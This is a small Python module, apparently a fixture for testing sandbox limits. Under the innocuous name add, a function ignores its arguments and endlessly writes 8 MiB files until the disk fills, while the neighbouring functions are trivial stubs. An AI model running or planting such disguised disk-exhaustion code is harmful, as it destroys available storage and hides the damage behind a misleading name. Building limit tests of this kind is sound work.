"""Fill the disk: write 8 MiB files into the workspace until something gives."""
import os
import random


def add(a, b):
    block = b"\0" * (8 * 2**20)
    n = 0
    while True:
        with open(f"fill-{n}.bin", "wb") as f:
            f.write(block)
        n += 1


def mul(a, b):
    return a * b


def work(n):
    return sum(range(n))


def roll():
    return random.random()


def make_plot():
    os.makedirs("results", exist_ok=True)
    with open("results/plot.txt", "w") as f:
        f.write("plot-ok")
